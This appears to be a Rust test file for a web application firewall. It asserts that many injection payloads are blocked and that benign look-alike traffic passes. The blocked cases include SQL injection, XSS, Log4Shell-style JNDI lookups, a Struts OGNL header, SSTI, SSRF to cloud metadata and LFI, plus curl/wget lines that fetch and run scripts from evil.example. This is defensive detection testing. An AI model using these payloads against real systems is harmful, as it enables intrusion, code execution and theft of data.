//! Coverage tests for the places and classes of issue 17: payloads in path segments,
//! any header, XML/SOAP and GraphQL bodies and nested encodings; NoSQL, LDAP, IMAP/SMTP,
//! CRLF, SSRF notations, SSTI, JNDI obfuscations, command and SQL shapes. Each group has
//! hard-benign look-alikes (JSON APIs, GraphQL, non-English text, tracking parameters,
//! base64 tokens and JWTs) that must pass at paranoia 1.

use crate::{Category, Engine, EngineConfig, HttpRequest, RuleSet, Verdict};

fn engine() -> Engine {
    Engine::new(RuleSet::builtin().unwrap(), EngineConfig::default())
}

fn req(method: &str, uri: &str, headers: &[(&str, &str)], body: &str) -> HttpRequest {
    let mut h = vec![
        ("Host".to_string(), "shop.example".to_string()),
        (
            "User-Agent".to_string(),
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0".to_string(),
        ),
    ];
    h.extend(headers.iter().map(|(a, b)| (a.to_string(), b.to_string())));
    HttpRequest {
        method: method.into(),
        uri: uri.into(),
        protocol: "HTTP/1.1".into(),
        headers: h,
        body: body.as_bytes().to_vec(),
        client_ip: None,
    }
}

fn enc(value: &str) -> String {
    let mut out = String::new();
    for b in value.bytes() {
        if b.is_ascii_alphanumeric() || b"-_.".contains(&b) {
            out.push(char::from(b));
        } else {
            out.push_str(&format!("%{b:02X}"));
        }
    }
    out
}

fn arg(value: &str) -> HttpRequest {
    req("GET", &format!("/search?q={}", enc(value)), &[], "")
}

fn blocked_as(v: &Verdict, cat: Category) -> bool {
    v.blocked && v.findings.iter().any(|f| f.category == cat)
}

fn caught(cat: Category, reqs: &[HttpRequest]) {
    let e = engine();
    for r in reqs {
        let v = e.inspect(r);
        assert!(blocked_as(&v, cat), "not blocked as {cat}: {r:?} -> {v:?}");
    }
}

fn caught_args(cat: Category, payloads: &[&str]) {
    caught(cat, &payloads.iter().map(|p| arg(p)).collect::<Vec<_>>());
}

fn clean(reqs: &[HttpRequest]) {
    let e = engine();
    for r in reqs {
        let v = e.inspect(r);
        assert!(!v.blocked, "false positive: {r:?} -> {v:?}");
    }
}

#[test]
fn payloads_in_path_segments() {
    let e = engine();
    for (path, cat) in [
        ("/api/users/1'%20OR%20'1'='1", Category::Sqli),
        (
            "/api/users/1%20UNION%20SELECT%20password%20FROM%20users--",
            Category::Sqli,
        ),
        (
            "/profile/%3Cscript%3Ealert(1)%3C%2Fscript%3E",
            Category::Xss,
        ),
        ("/run/%3Bcat%20%2Fetc%2Fpasswd", Category::Rce),
        ("/x/$%7Bjndi:ldap:%2F%2Fevil.example%2Fa%7D", Category::Jndi),
        ("/page/%7B%7B7*7%7D%7D", Category::Ssti),
        ("/go/%0d%0aSet-Cookie:%20a=b", Category::Crlf),
    ] {
        let v = e.inspect(&req("GET", path, &[], ""));
        assert!(blocked_as(&v, cat), "{path}: {v:?}");
        assert!(
            v.findings.iter().any(|f| f.location == "path_segment"),
            "{path}: {v:?}"
        );
    }
}

#[test]
fn payloads_in_any_header() {
    caught(
        Category::Sqli,
        &[
            req(
                "GET",
                "/",
                &[("X-Forwarded-Host", "x' UNION SELECT password FROM users--")],
                "",
            ),
            req("GET", "/", &[("X-Custom-Id", "1 AND SLEEP(5)")], ""),
            req(
                "GET",
                "/",
                &[("Accept-Language", "en'; WAITFOR DELAY '0:0:5'--")],
                "",
            ),
        ],
    );
    caught(
        Category::Jndi,
        &[req(
            "GET",
            "/",
            &[("X-Api-Version", "${jndi:ldap://evil.example/a}")],
            "",
        )],
    );
    caught(
        Category::Rce,
        &[
            req(
                "GET",
                "/",
                &[("X-Token", "$(curl http://evil.example/x.sh|sh)")],
                "",
            ),
            // Struts CVE-2017-5638: OGNL in Content-Type.
            req(
                "POST",
                "/upload.action",
                &[(
                    "Content-Type",
                    "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id')}",
                )],
                "",
            ),
            req(
                "GET",
                "/",
                &[(
                    "Content-Type",
                    "%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].addHeader('X',1)}",
                )],
                "",
            ),
        ],
    );
    caught(
        Category::Xss,
        &[req(
            "GET",
            "/",
            &[("X-Forwarded-Server", "\"><script>alert(1)</script>")],
            "",
        )],
    );
}

#[test]
fn xml_soap_and_graphql_bodies() {
    let soap = r#"<?xml version="1.0"?><soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body><getUser><id>1' OR '1'='1</id></getUser></soapenv:Body></soapenv:Envelope>"#;
    let xml_attr = r#"<order customer="x' UNION SELECT card FROM cards--"><item>1</item></order>"#;
    let xml_cmd = r#"<req><host>127.0.0.1; cat /etc/passwd</host></req>"#;
    let gql_inline = r#"{"query":"query { user(name: \"admin' OR 1=1--\") { id } }"}"#;
    let gql_raw = r#"mutation { comment(text: "<script>alert(document.cookie)</script>") { id } }"#;
    let e = engine();
    for (ct, body, cat) in [
        ("text/xml; charset=utf-8", soap, Category::Sqli),
        ("application/xml", xml_attr, Category::Sqli),
        ("application/soap+xml", xml_cmd, Category::Rce),
        ("application/json", gql_inline, Category::Sqli),
        ("application/graphql", gql_raw, Category::Xss),
    ] {
        let v = e.inspect(&req("POST", "/api", &[("Content-Type", ct)], body));
        assert!(blocked_as(&v, cat), "{ct} {body}: {v:?}");
    }
}

#[test]
fn nested_encodings() {
    caught_args(
        Category::Xss,
        &[
            // base64 of <script>alert(1)</script>
            "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            // double URL encoding
            "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
        ],
    );
    caught_args(
        Category::Rce,
        // PHP code in a data: URL inclusion.
        &["data:;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg=="],
    );
    caught_args(
        Category::Sqli,
        &["%u0027%u0020UNION%u0020SELECT%u0020password%u0020FROM%u0020users--"],
    );
    caught(
        Category::Lfi,
        &[
            req("GET", "/static/..%c0%af..%c0%af..%c0%afetc/passwd", &[], ""),
            req(
                "GET",
                "/download?file=..%25%5c..%25%5c..%25%5cwindows%25%5cwin.ini",
                &[],
                "",
            ),
        ],
    );
    caught(
        Category::Sqli,
        &[req(
            "GET",
            "/",
            &[(
                "Cookie",
                "prefs=JyBVTklPTiBTRUxFQ1QgcGFzc3dvcmQgRlJPTSB1c2Vycy0t",
            )],
            "",
        )],
    );
}

#[test]
fn crlf_header_injection() {
    caught(
        Category::Crlf,
        &[
            req(
                "GET",
                "/redirect?url=%0d%0aSet-Cookie:%20session=evil",
                &[],
                "",
            ),
            req(
                "GET",
                "/redirect?url=%250d%250aLocation:%20http://evil.example",
                &[],
                "",
            ),
            req("GET", "/a%250d%250aX-Injected:%201", &[], ""),
            req("GET", "/lang?l=en%u000d%u000aContent-Length:%200", &[], ""),
            req("GET", "/p?x=%0d%0a%0d%0a%3Chtml%3Eowned", &[], ""),
        ],
    );
}

#[test]
fn nosql_injection() {
    caught(
        Category::Nosqli,
        &[
            req("GET", "/login?user=admin&password[$ne]=x", &[], ""),
            req("GET", "/login?user[%24regex]=.*&password[%24gt]=", &[], ""),
            req(
                "POST",
                "/api/login",
                &[("Content-Type", "application/json")],
                r#"{"username":"admin","password":{"$ne":null}}"#,
            ),
            req(
                "GET",
                &format!("/find?filter={}", enc(r#"{"$where":"sleep(5000)"}"#)),
                &[],
                "",
            ),
        ],
    );
    caught_args(
        Category::Nosqli,
        &[
            "'; return true; var x='",
            "1' || '1'=='1",
            "this.password.match(/.*/)",
            "db.users.find()",
            "function() { return this.admin == true }",
        ],
    );
}

#[test]
fn ldap_injection() {
    caught_args(
        Category::Ldapi,
        &[
            "*)(uid=*))(|(uid=*",
            "admin*)((|userPassword=*)",
            "*)(|(objectclass=*)",
            "*))%00",
            "*()|&'",
            "*(|(mail=*))",
            "x)(cn=admin",
        ],
    );
}

#[test]
fn imap_smtp_injection() {
    caught_args(
        Category::Mail,
        &[
            "INBOX\r\nV100 CAPABILITY\r\nV101 FETCH 4791",
            "x\r\nA01 LOGIN admin secret",
            "victim@example.com\r\nRCPT TO: <other@evil.example>",
            "hi\r\nMAIL FROM: <a@evil.example>",
            "hello%0d%0aBcc: spam@evil.example",
            "user@example.com\nCc: list@evil.example",
        ],
    );
}

#[test]
fn ssrf_notations_and_schemes() {
    caught_args(
        Category::Ssrf,
        &[
            "http://2130706433/",
            "http://0177.0.0.1/admin",
            "http://0x7f.0.0.1/",
            "http://0x7f000001/",
            "http://127.1/",
            "http://[::ffff:127.0.0.1]/",
            "http://[::ffff:a9fe:a9fe]/latest/meta-data/",
            "http://0251.0376.0251.0376/latest/meta-data/",
            "http://169.254.169.254.nip.io/",
            "http://metadata.google.internal/computeMetadata/v1/",
            "gopher://127.0.0.1:6379/_INFO",
            "dict://localhost:11211/stat",
            "file:///etc/passwd",
        ],
    );
}

#[test]
fn ssti_and_jndi_obfuscations() {
    caught_args(
        Category::Ssti,
        &[
            "*{7*7}",
            "@(6*7)",
            "${T(java.lang.Runtime).getRuntime().exec('id')}",
            "#set($x=$class.inspect('java.lang.Runtime'))",
            "{{constructor.constructor('return process')()}}",
            "{{config.items()}}",
        ],
    );
    caught_args(
        Category::Jndi,
        &[
            "${${lower:j}ndi:ldap://evil.example/a}",
            "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}",
            "${j${k8s:k5:-ND}i:ldap://evil.example/a}",
            "%24%7Bjndi:ldap://evil.example/a%7D",
        ],
    );
}

#[test]
fn command_injection_shapes() {
    caught_args(
        Category::Rce,
        &[
            "&ping -n 25 127.0.0.1&",
            "x;netstat -a;",
            "`id`",
            "a|dir|",
            "x && wget http://evil.example/x.sh -O /tmp/x",
            "curl -s http://evil.example/a.sh",
            "ping -c 3 10.0.0.1",
            "|type c:\\boot.ini",
        ],
    );
    // A single `&` splits the query, so the command arrives as an argument name.
    caught(
        Category::Rce,
        &[req(
            "GET",
            "/status?host=x&ping%20-n%2025%20127.0.0.1&",
            &[],
            "",
        )],
    );
    caught_args(
        Category::Lfi,
        &[
            "C:\\inetpub\\wwwroot\\global.asa",
            "c:/windows/win.ini",
            "..\\..\\web.config",
        ],
    );
}

#[test]
fn sql_shapes_sqlmap_got_through() {
    caught_args(
        Category::Sqli,
        &[
            "1 HAVING 4012=4012",
            "1) HAVING 8040=8040 AND (8285=8285",
            "1 AND (SELECT (CASE WHEN (5234=5234) THEN 1 ELSE 0 END))",
            "1 OR IIF(2354=2354,1,1/0)",
            "1 AND MAKE_SET(5678=5678,1)",
            "1'||(SELECT CHR(65)||CHR(66) FROM DUAL)||'",
            "1 AND 5743 BETWEEN (SELECT COUNT(*) FROM GENERATE_SERIES(1,5000000)) AND 1",
            "1 AND 4321=(SELECT 4321 FROM RDB$DATABASE)",
            "1/**/aNd/**/8133=8133",
            "1 /*!50000UNION*/ /*!50000SELECT*/ 1,2",
            "1' AND ELT(3215=3215,SLEEP(5))-- x",
        ],
    );
    caught(
        Category::Sqli,
        &[
            req(
                "GET",
                "/",
                &[(
                    "User-Agent",
                    "x';IF(7423=7423) SELECT 7423 ELSE DROP FUNCTION abc--",
                )],
                "",
            ),
            req(
                "GET",
                "/",
                &[(
                    "Referer",
                    "http://x/';IF(1=1) SELECT 1 ELSE DROP FUNCTION f--",
                )],
                "",
            ),
        ],
    );
}

#[test]
fn hard_benign_traffic_passes() {
    let jwt = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c";
    let b64_json = "eyJjYXJ0IjpbeyJpZCI6MTIsInF0eSI6Mn1dLCJjdXJyZW5jeSI6IkVVUiJ9";
    let gql = r#"{"query":"query Product($id: ID!) { product(id: $id) { name price reviews(first: 5, orderBy: \"rating\") { text author } } }","variables":{"id":"UHJvZHVjdDoxMjM="}}"#;
    let gql_mutation = r#"{"query":"mutation { addComment(postId: 42, text: \"Select the best option from the list, or use && in shell scripts\") { id } }"}"#;
    let soap = r#"<?xml version="1.0"?><soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope"><soap:Body><GetPrice xmlns="http://shop.example/"><Item lang="de">Äpfel &amp; Birnen (1 kg)</Item><Note>O'Reilly's "best" book</Note></GetPrice></soap:Body></soap:Envelope>"#;
    let json_api = r##"{"user":{"name":"José O'Neil","bio":"Loves SQL & Rust, C# and the (select) few","tags":["c++","c#"],"$schema":"https://json-schema.org/draft/2020-12/schema","$ref":"#/defs/a","$type":"Shop.Order, Shop"}}"##;
    clean(&[
        req(
            "GET",
            "/",
            &[("Authorization", &format!("Bearer {jwt}"))],
            "",
        ),
        req("GET", &format!("/checkout?state={b64_json}"), &[], ""),
        req(
            "GET",
            &format!("/cb?id_token={jwt}&code=4%2F0AX4XfWh"),
            &[],
            "",
        ),
        req(
            "GET",
            "/",
            &[(
                "Cookie",
                &format!("session={jwt}; cart={b64_json}; _ga=GA1.2.1234567890.1700000000"),
            )],
            "",
        ),
        req(
            "POST",
            "/graphql",
            &[("Content-Type", "application/json")],
            gql,
        ),
        req(
            "POST",
            "/graphql",
            &[("Content-Type", "application/json")],
            gql_mutation,
        ),
        req(
            "POST",
            "/ws",
            &[("Content-Type", "application/soap+xml; charset=utf-8")],
            soap,
        ),
        req(
            "POST",
            "/api/users",
            &[("Content-Type", "application/json")],
            json_api,
        ),
        req(
            "GET",
            "/landing?utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale_2024&gclid=Cj0KCQjw8MG1BhCoARIsAHxSiQnQm3kZ0c9fXw1-rJ8yT2d3VxK4bB6aEhp7hR9sLw0a8wYq5aAkZmEALw_wcB&fbclid=IwAR2F4-dQ_3m0xYbP4jK1nH6vZ8tL5rS9uW2eQ7cA0gD3fB1iM&mc_eid=5f2b8c9d0e",
            &[],
            "",
        ),
        req(
            "GET",
            "/",
            &[
                (
                    "Accept",
                    "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
                ),
                ("Accept-Language", "de-DE,de;q=0.9,en-US;q=0.8,en;q=0.7"),
                ("Accept-Encoding", "gzip, deflate, br"),
                (
                    "sec-ch-ua",
                    "\"Chromium\";v=\"118\", \"Google Chrome\";v=\"118\", \"Not=A?Brand\";v=\"99\"",
                ),
                ("sec-ch-ua-platform", "\"Windows\""),
                ("If-None-Match", "W/\"5e-1a2b3c\""),
                ("If-Modified-Since", "Wed, 21 Oct 2015 07:28:00 GMT"),
                (
                    "traceparent",
                    "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01",
                ),
                ("X-Request-Id", "f058ebd6-02f7-4d3f-942e-904344e8cde5"),
                ("X-Api-Key", "sk_live_51HqLyjWDarjtT1zdp7dcXw"),
                ("Prefer", "return=minimal; wait=10"),
                ("Forwarded", "for=192.0.2.60;proto=https;by=203.0.113.43"),
                ("Cache-Control", "no-cache"),
                ("Origin", "https://shop.example"),
            ],
            "",
        ),
        req("GET", "/wiki/C%2B%2B_(programming_language)", &[], ""),
        req("GET", "/files/report%20(1).pdf", &[], ""),
        req("GET", "/users/o'brien/profile", &[], ""),
        req(
            "GET",
            "/blog/2024/05/%E4%BD%A0%E5%A5%BD-%E4%B8%96%E7%95%8C",
            &[],
            "",
        ),
        req("GET", "/api/v1/items/UHJvZHVjdDoxMjM=", &[], ""),
        arg("Привет, как дела? Выберите (select) товар из списка"),
        arg("مرحبا بالعالم - اختر من القائمة"),
        arg("Schöne Grüße aus Köln: \"Wir sehen uns\" (bald)!"),
        arg("Réunion à 14h (salle B) ; apportez vos ordinateurs & câbles"),
        arg("user@example.com"),
        arg("Tom & Jerry; the more, the merrier"),
        arg("ping me when you are back"),
        arg("Use the search (*) wildcard or the (a|b) form"),
        arg("Dear team,\nTo: whom it may concern\nThanks"),
        arg("in case when you arrive, then call me"),
        arg("http://example.com/page?ref=home"),
        arg("see http://192.168.1.1 manual, chapter 3.2"),
        arg("{{name}} ordered {{count}} items"),
        arg("C:\\Users\\me\\Documents\\notes.txt"),
    ]);
}

#[test]
fn bare_command_words_are_not_commands() {
    clean(&[
        req("GET", "/health?ping", &[], ""),
        req("GET", "/health?ping=1&whoami", &[], ""),
        arg("ping"),
        arg("curl up with a book"),
    ]);
}
